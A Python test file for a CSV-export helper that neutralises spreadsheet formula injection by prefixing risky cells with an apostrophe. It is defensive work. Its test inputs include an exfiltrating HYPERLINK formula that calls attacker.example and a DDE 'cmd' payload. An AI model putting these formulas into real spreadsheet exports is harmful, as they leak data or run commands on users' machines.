"""CSV for spreadsheets: a text cell a spreadsheet would run as a formula is written as text, numbers as numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from ctims import safe_csv

HOSTILE = '=HYPERLINK("http://attacker.example/?d="&A2&B2,"Reader 1 measured the wrong slice")'


@pytest.mark.parametrize(
    "text", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "-A1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "+", "-1,5"]
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert safe_csv.cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.5", "+3", "-0.1", "-.5", "-1e-3", "12", "Reader 1", "", "a=b"])
def test_plain_numbers_and_harmless_text_are_left_as_they_are(text):
    assert safe_csv.cell(text) == text


@pytest.mark.parametrize("value", [-12.5, -3, Decimal("-0.5"), 0, None, True])
def test_numbers_stay_numbers(value):
    assert safe_csv.cell(value) is value


def test_both_writers_neutralise_every_cell_and_keep_negative_numbers():
    out = io.StringIO()
    writer = safe_csv.DictWriter(out, fieldnames=["reason", "change", "day"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"reason": HOSTILE, "change": -12.5, "day": "-3"})
    writer.writerows([{"reason": "@x", "change": "-22.9", "day": -1}])
    writer = safe_csv.Writer(out, lineterminator="\n")
    writer.writerows([["-A1+1", -7, "-7"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["reason", "change", "day"],
        ["'" + HOSTILE, "-12.5", "-3"],
        ["'@x", "-22.9", "-1"],
        ["'-A1+1", "-7", "-7"],
    ]
